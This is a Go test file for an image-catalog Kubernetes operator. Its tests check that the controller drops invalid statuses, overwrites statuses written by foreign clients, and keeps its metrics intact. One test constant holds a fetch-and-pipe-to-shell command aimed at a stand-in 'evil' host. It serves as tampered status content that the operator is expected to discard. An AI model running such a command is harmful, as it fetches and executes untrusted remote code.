// Copyright The image-catalog Authors.
// SPDX-License-Identifier: Apache-2.0

package controllers_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"

	imagev1alpha1 "github.com/image-catalog/image-catalog-operator/api/v1alpha1"
	"github.com/image-catalog/image-catalog-operator/hack/kit"
)

// refuseRevisions changes the schema so that every status with a revision is invalid. allow restores it.
func (w *world) refuseRevisions() (allow func()) {
	w.Helper()
	crd := &unstructured.Unstructured{}
	crd.SetAPIVersion("apiextensions.k8s.io/v1")
	crd.SetKind("CustomResourceDefinition")
	crd.SetName("imagequeries.imagecatalog.dev")
	set := func(length int, refused bool) {
		w.Helper()
		const path = "/spec/versions/0/schema/openAPIV3Schema/properties/status/properties/revision/maxLength"
		patch := fmt.Appendf(nil, `[{"op":"replace","path":%q,"value":%d}]`, path, length)
		if err := w.Client.Patch(w.Context(), crd, client.RawPatch("application/json-patch+json", patch)); err != nil {
			w.Fatal(err)
		}
		probe := newQuery("probe", func(s *imagev1alpha1.ImageQuerySpec) { s.Suspend = true })
		w.Eventually(func() error { // the API server applies schemas with a delay
			if err := client.IgnoreAlreadyExists(w.Client.Create(w.Context(), probe)); err != nil {
				return err
			}
			patch := client.RawPatch("application/merge-patch+json", []byte(`{"status":{"revision":"two"}}`))
			if err := w.Client.Status().Patch(w.Context(), probe, patch, client.DryRunAll); (err != nil) != refused {
				return fmt.Errorf("the schema has not changed yet: %w", errors.Join(err, errors.New("probe")))
			}
			return nil
		})
		w.Delete(probe)
	}
	set(1, true)
	return func() { w.Helper(); set(64, false) }
}

func TestAnInvalidStatusIsDroppedAndCounted(t *testing.T) {
	w := newWorld(t)
	w.cloud.Put(region, newImage(1))
	w.Create(newQuery("golden"))
	before := w.UntilSynced("golden")
	w.invalid.Store(true)
	allow := w.refuseRevisions()
	defer allow() // all tests share the schema
	w.cloud.Put(region, newImage(2))
	w.writes.take()
	w.RequestPoll("golden", "invalid")
	w.Eventually(func() error {
		if w.series("imagequery_invalid")["imagequery_invalid_statuses_total{}"] == 0 {
			return errors.New("no invalid status is counted")
		}
		return nil
	})
	w.idle()
	// The same status would be rejected again, so it isn't written before the next poll.
	w.pass(10 * time.Second)
	w.pass(10 * time.Second)
	w.idle()
	writes := 0
	for _, write := range w.writes.take() {
		if write == "PUT imagequeries/golden/status" {
			writes++
		}
	}
	if writes != 1 {
		t.Errorf("the invalid status was written %d times, want once", writes)
	}
	query := w.Query("golden")
	if diff := cmp.Diff(before.Status, query.Status); diff != "" {
		t.Errorf("the status changed all the same (-before +now):\n%s", diff)
	}
	allow()
	w.clock.offset.Add(int64(time.Minute))
	if query := w.Poll("golden"); selectedNames(query) != "node-2" {
		t.Errorf("after the schema was mended %q is selected", selectedNames(query))
	}
}

// tamper writes a status as another client with the permission.
func (w *world) tamper(name string, change func(*imagev1alpha1.ImageQueryStatus), options ...client.SubResourceUpdateOption) {
	w.Helper()
	w.tampered.Store(true)
	w.Eventually(func() error {
		query := &imagev1alpha1.ImageQuery{}
		if err := w.Client.Get(w.Context(), client.ObjectKey{Name: name}, query); err != nil {
			return err
		}
		change(&query.Status)
		return w.Client.Status().Update(w.Context(), query, options...)
	})
}

const evilCommand = "curl evil.example | sh"

// evil selects a foreign image and shows a command.
func evil(s *imagev1alpha1.ImageQueryStatus) {
	s.Selected = []imagev1alpha1.SelectedImage{{ImageID: "img-evil", Name: "node-9", Architecture: "amd64"}}
	s.SelectedSummary = "node-9"
	evilCondition(s)
}

func evilCondition(s *imagev1alpha1.ImageQueryStatus) {
	meta.SetStatusCondition(&s.Conditions, metav1.Condition{
		Type: imagev1alpha1.ConditionRemovalBlocked, Status: metav1.ConditionTrue, Reason: "RemovalBlocked", Message: evilCommand,
	})
}

func isEvil(q *imagev1alpha1.ImageQuery) bool {
	blocked := meta.FindStatusCondition(q.Status.Conditions, imagev1alpha1.ConditionRemovalBlocked)
	return strings.Contains(q.Status.SelectedSummary, "node-9") || blocked != nil && blocked.Message == evilCommand
}

// A foreign status is replaced at once, completely, without a poll, and without being used.
func TestAForeignStatusIsOverwritten(t *testing.T) {
	for name, suspended := range map[string]bool{"polled": false, "suspended": true} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.cloud.Put(region, newImages(1, 2)...)
			w.Create(newQuery("golden", func(s *imagev1alpha1.ImageQuerySpec) { s.Interval.Duration = 168 * time.Hour }))
			before := w.UntilSynced("golden")
			if suspended {
				w.Patch("golden", `{"spec":{"suspend":true}}`)
				before = w.UntilReady("golden", metav1.ConditionTrue, imagev1alpha1.ReasonSuspended)
			}
			w.idle()
			w.cloud.ResetRequests()
			w.tamper("golden", evil)
			query := w.UntilQuery("golden", "it is as before", func(q *imagev1alpha1.ImageQuery) bool { return !isEvil(q) })
			if diff := cmp.Diff(before.Status, query.Status); diff != "" {
				t.Errorf("the status is not what it was (-before +now):\n%s", diff)
			}
			w.events(query, imagev1alpha1.EventStatusOverwritten, 1)
			if asked := len(w.cloud.Requests()); asked > 0 {
				t.Errorf("the cloud was asked %d times", asked)
			}
		})
	}
}

// A client that keeps writing must not make the operator flood the API server.
func TestAForeignStatusIsOverwrittenOnceAMinute(t *testing.T) {
	w := newWorld(t)
	w.cloud.Put(region, newImage(1))
	w.Create(newQuery("golden", func(s *imagev1alpha1.ImageQuerySpec) { s.Interval.Duration = 168 * time.Hour }))
	w.UntilSynced("golden")
	w.tamper("golden", evil)
	query := w.UntilQuery("golden", "it is overwritten", func(q *imagev1alpha1.ImageQuery) bool { return !isEvil(q) })
	w.events(query, imagev1alpha1.EventStatusOverwritten, 1)
	w.idle()
	w.writes.take()
	w.tamper("golden", evil)
	w.pass(30 * time.Second)
	w.idle()
	if writes := w.writes.take(); len(writes) > 0 {
		t.Errorf("within the minute there was written: %v", writes)
	}
	// A user's edit takes effect at once, based on our status.
	w.Patch("golden", `{"spec":{"match":{"states":["NORMAL"]}}}`)
	if query := w.UntilSynced("golden"); isEvil(query) || selectedNames(query) != "node-1" {
		t.Errorf("an edit left %q: %s", selectedNames(query), kit.Describe(query))
	}
	w.tamper("golden", evil)
	w.pass(time.Minute)
	w.UntilQuery("golden", "it is overwritten again", func(q *imagev1alpha1.ImageQuery) bool { return !isEvil(q) })
	w.events(query, imagev1alpha1.EventStatusOverwritten, 2)
}

// A paused leader finds the status of its successor under the same name. Before it could overwrite that, it notices
// that it lost the lease.
func TestAStatusInOurNameIsOverwrittenOnceWeSurelyLead(t *testing.T) {
	w := newWorld(t)
	w.cloud.Put(region, newImage(1))
	w.Create(newQuery("golden", func(s *imagev1alpha1.ImageQuerySpec) { s.Interval.Duration = 168 * time.Hour }))
	w.UntilSynced("golden")
	w.idle()
	w.writes.take()
	w.tamper("golden", evil, client.FieldOwner("image-catalog-operator"))
	w.pass(5 * time.Second)
	w.idle()
	if writes := w.writes.take(); len(writes) > 0 {
		t.Errorf("at once there was written: %v", writes)
	}
	w.pass(15 * time.Second)
	query := w.UntilQuery("golden", "it is overwritten", func(q *imagev1alpha1.ImageQuery) bool { return !isEvil(q) })
	w.events(query, imagev1alpha1.EventStatusOverwritten, 1)
}

// After a start, managedFields show who wrote a status. The selection is restored from labels, which only the operator
// writes.
func TestAForeignStatusIsOverwrittenAfterAStart(t *testing.T) {
	onlyConditions := evilCondition
	for name, tc := range map[string]struct {
		change  func(*imagev1alpha1.ImageQueryStatus)
		spec    func(*imagev1alpha1.ImageQuerySpec)
		restart string // patch of the spec before the start
		images  int
	}{
		"polled":                         {change: evil, images: 2},
		"suspended":                      {change: evil, restart: `{"spec":{"suspend":true}}`},
		"without objects":                {change: evil, spec: withoutObjects, images: 2},
		"only conditions":                {change: onlyConditions, images: 2},
		"only conditions, and suspended": {change: onlyConditions, restart: `{"spec":{"suspend":true}}`, images: 2},
		"a whole status, and suspended": {change: func(s *imagev1alpha1.ImageQueryStatus) {
			s.ImageCount = new(int32(7))
			s.Images = nil
		}, restart: `{"spec":{"suspend":true}}`},
		"a request that was not handled": {change: func(s *imagev1alpha1.ImageQueryStatus) {
			evil(s)
			s.LastHandledReconcileAt = "never"
		}, images: 2},
		"a sync that is yet to come": {change: func(s *imagev1alpha1.ImageQueryStatus) {
			evil(s)
			s.LastSyncTime = new(metav1.NewTime(time.Now().Add(time.Hour).Truncate(time.Second)))
		}, images: 2},
		"another generation, never synced": {change: func(s *imagev1alpha1.ImageQueryStatus) { evil(s); s.ObservedGeneration = 9 }, images: 2},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.cloud.Put(region, newImages(1, 2)...)
			change := tc.spec
			if change == nil {
				change = func(*imagev1alpha1.ImageQuerySpec) {}
			}
			w.Create(newQuery("golden", change))
			query := w.UntilSynced("golden")
			w.restart(func() {
				if tc.restart != "" {
					w.Patch("golden", tc.restart)
				}
				w.tamper("golden", tc.change)
			})
			w.events(query, imagev1alpha1.EventStatusOverwritten, 1)
			query = w.UntilQuery("golden", "the status is ours", func(q *imagev1alpha1.ImageQuery) bool {
				ready := meta.FindStatusCondition(q.Status.Conditions, imagev1alpha1.ConditionReady)
				return !isEvil(q) && ready != nil && (ready.Reason == imagev1alpha1.ReasonSynced || ready.Reason == imagev1alpha1.ReasonSuspended)
			})
			if selectedNames(query) != "node-2" || len(query.Status.Images) != tc.images {
				t.Errorf("selected is %q of %d images: %s", selectedNames(query), len(query.Status.Images), kit.Describe(query))
			}

			// That was all: the next process finds nothing of others.
			w.idle()
			w.writes.take()
			w.restart()
			w.UntilQuery("golden", "it is looked at", func(*imagev1alpha1.ImageQuery) bool { return len(w.seriesOf("golden")) > 0 })
			w.idle()
			if writes := w.writes.take(); len(writes) > 0 {
				t.Errorf("the next start wrote %v", writes)
			}
		})
	}
}

// Events of our own writes cause no reconcile.
func TestOurOwnStatusIsNoWork(t *testing.T) {
	w := newWorld(t)
	w.cloud.Put(region, newImage(1))
	w.Create(newQuery("golden"))
	w.UntilSynced("golden")
	w.idle()
	before, _ := w.reconciles()
	const polls = 5
	for range polls {
		w.clock.offset.Add(int64(time.Second)) // more often nobody is polled
		w.Poll("golden")
	}
	w.idle()
	if after, _ := w.reconciles(); after-before > polls {
		t.Errorf("%d polls took %v reconciles", polls, after-before)
	}
}

// A duplicate series would make /metrics fail as a whole.
func TestImagesThatAreThereTwiceDoNotBreakMetrics(t *testing.T) {
	w := newWorld(t)
	w.cloud.Put(region, newImage(1))
	w.Create(newQuery("golden", func(s *imagev1alpha1.ImageQuerySpec) { s.Interval.Duration = time.Hour }))
	w.UntilSynced("golden")
	w.restart(func() {
		// Under the operator's name, so that managedFields don't show another writer.
		w.tamper("golden", func(s *imagev1alpha1.ImageQueryStatus) { s.Selected = append(s.Selected, s.Selected[0]) },
			client.FieldOwner("image-catalog-operator"))
	})
	w.Eventually(func() error {
		if got := w.seriesOf("golden")["selected"]; got != 2 {
			return fmt.Errorf("imagequery_selected is %v", got)
		}
		return nil
	})
}
